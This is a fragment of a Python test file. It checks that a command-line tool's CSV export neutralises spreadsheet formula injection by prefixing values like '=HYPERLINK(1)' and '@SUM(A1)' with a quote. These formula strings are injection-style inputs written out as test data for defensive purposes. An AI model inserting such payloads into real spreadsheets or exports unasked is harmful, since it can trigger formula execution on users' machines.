    assert len(NAUGHTY) > 450


@pytest.mark.parametrize("formula", ["=HYPERLINK(1)", "+1", "-1", "@SUM(A1)"])
def test_a_formula_stays_a_text_in_a_spreadsheet(mini: Miniature, formula: str) -> None:
    put(mini, {W: wave(f"video: {quoted(formula)}", "group: g")})
    rows = list(csv.DictReader(io.StringIO(mini.run("list", "--format", "csv", now=NOW).out)))
    assert {row["video_id"] for row in rows} == {f"'{formula}"}
